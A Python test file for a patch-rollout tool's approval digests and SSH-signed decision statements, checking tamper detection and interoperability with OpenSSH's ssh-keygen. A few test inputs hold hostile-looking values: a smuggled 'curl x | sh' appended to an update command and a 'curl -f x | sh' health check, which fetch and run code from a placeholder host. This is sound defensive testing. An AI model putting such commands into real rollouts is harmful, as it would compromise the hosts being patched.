"""Decisions bound to what will run (issue 13): the digest, and SSH signatures that interoperate
with OpenSSH's own `ssh-keygen -Y sign` / `-Y verify`."""

from __future__ import annotations

import subprocess
from datetime import timedelta
from pathlib import Path

import asyncssh
import pytest

from activities.proof import ProofError, allowed_signers, sign_statement, verify_statement
from workflows.models import HostCommands, HostTarget, RolloutInput
from workflows.proof import NAMESPACE, DecisionStatement, rollout_digest


def rollout(**changes: object) -> RolloutInput:
    raw: dict[str, object] = {
        "targetClusters": ["cluster-a"],
        "pilotHostCount": 1,
        "approverEmails": ["alice@example.com"],
        "requesterEmail": "bob@example.com",
        "updateCommand": "apt-get update && apt-get -y upgrade",
        "serviceList": ["nginx"],
    }
    return RolloutInput.model_validate(raw | changes)


def hosts(**changes: object) -> dict[str, list[HostTarget]]:
    first = {"name": "a1", "cluster": "cluster-a", "address": "10.0.0.1"} | changes
    return {
        "cluster-a": [
            HostTarget.model_validate(first),
            HostTarget(name="a2", cluster="cluster-a", address="10.0.0.2"),
        ]
    }


def test_the_digest_changes_with_anything_that_runs_and_only_with_that() -> None:
    base = rollout_digest(rollout(), hosts())
    assert base.startswith("sha256:") and len(base) == 7 + 64
    assert rollout_digest(rollout(), hosts()) == base  # stable
    changed = [
        rollout_digest(rollout(updateCommand="apt-get -y upgrade; curl x | sh"), hosts()),
        rollout_digest(rollout(postUpdateScripts=["reboot"]), hosts()),
        rollout_digest(rollout(serviceList=["nginx", "postgresql"]), hosts()),
        rollout_digest(rollout(rebootPolicy="always"), hosts()),
        # It runs dpkg --configure -a on hosts (workflows/repair.py).
        rollout_digest(rollout(repairInterruptedDpkg=True), hosts()),
        rollout_digest(rollout(), hosts(address="10.6.6.6")),
        rollout_digest(rollout(), hosts(user="root")),
        rollout_digest(rollout(), hosts(commands=HostCommands(health_check="curl -f x | sh"))),
        rollout_digest(rollout(), {"cluster-a": hosts()["cluster-a"][:1]}),
    ]
    assert base not in changed and len(set(changed)) == len(changed)
    # When things run is not what runs: timeouts and concurrency leave the digest alone.
    later = rollout(updateTimeout=int(timedelta(hours=3).total_seconds()), maxConcurrency=5)
    assert rollout_digest(later, hosts()) == base
    # Off is the digest as before the field existed: signed approvals and grants still hold.
    assert rollout_digest(rollout(repairInterruptedDpkg=False), hosts()) == base


def keypair(path: Path, comment: str) -> tuple[Path, str]:
    key = asyncssh.generate_private_key("ssh-ed25519", comment=comment)
    key.write_private_key(str(path))
    path.chmod(0o600)  # ssh-keygen refuses a private key others can read
    return path, key.export_public_key().decode().strip()


def statement(**changes: str) -> DecisionStatement:
    fields = {
        "rollout_id": "patch-cluster-a-20261130-2200-0a1b2c3d",
        "decision": "approve",
        "approver": "alice",
        "decided_at": "2026-11-30T22:00:00Z",
        "digest": rollout_digest(rollout(), hosts()),
        "signer": "alice",
    } | changes
    return DecisionStatement(**fields)  # type: ignore[arg-type]


def test_a_signature_verifies_only_for_its_signer_statement_and_namespace(tmp_path: Path) -> None:
    alice_key, alice_pub = keypair(tmp_path / "alice", "alice")
    _, mallory_pub = keypair(tmp_path / "mallory", "mallory")
    signed = statement()
    signature = sign_statement(signed, alice_key)
    assert signature.startswith("-----BEGIN SSH SIGNATURE-----")
    vouchers = {"alice": [alice_pub], "mallory": [mallory_pub]}
    assert verify_statement(signed, signature, vouchers)
    # Another digest (what runs changed), another decision, another rollout: refused.
    assert not verify_statement(statement(digest="sha256:" + "0" * 64), signature, vouchers)
    assert not verify_statement(statement(decision="reject"), signature, vouchers)
    assert not verify_statement(statement(rollout_id="patch-other"), signature, vouchers)
    # A signer claiming Alice's statement with their own key, or a key the policy does not know.
    assert not verify_statement(statement(signer="mallory"), signature, vouchers)
    assert not verify_statement(signed, signature, {"alice": [mallory_pub]})
    assert not verify_statement(signed, signature, {})
    assert not verify_statement(signed, "not a signature", vouchers)
    # Alice's signature of the same bytes for another purpose (a git commit) is no decision.
    other = asyncssh.create_sshsig(
        asyncssh.read_private_key(alice_key), signed.to_bytes(), namespace="git"
    )
    assert not verify_statement(signed, other.decode(), vouchers)


def test_signatures_interoperate_with_openssh_ssh_keygen(tmp_path: Path) -> None:
    key, public = keypair(tmp_path / "alice", "alice")
    signed = statement()
    data = tmp_path / "statement"
    data.write_bytes(signed.to_bytes())
    # A person signing with OpenSSH's own tool, as the README tells them to.
    subprocess.run(
        ["ssh-keygen", "-q", "-Y", "sign", "-f", str(key), "-n", NAMESPACE, str(data)],
        check=True,
        capture_output=True,
    )
    by_openssh = (tmp_path / "statement.sig").read_text()
    assert verify_statement(signed, by_openssh, {"alice": [public]})
    # And OpenSSH accepts what PatchPilot signs.
    (tmp_path / "ours.sig").write_text(sign_statement(signed, key))
    (tmp_path / "allowed").write_text(allowed_signers({"alice": [public]}))
    checked = subprocess.run(
        [
            *("ssh-keygen", "-Y", "verify", "-f", str(tmp_path / "allowed"), "-I", "alice"),
            *("-n", NAMESPACE, "-s", str(tmp_path / "ours.sig")),
        ],
        input=signed.to_bytes(),
        capture_output=True,
    )
    assert checked.returncode == 0, checked.stderr


def test_an_unusable_signing_key_is_named(tmp_path: Path) -> None:
    with pytest.raises(ProofError) as missing:
        sign_statement(statement(), tmp_path / "nope")
    assert f"cannot use signing key {tmp_path / 'nope'}" in str(missing.value)
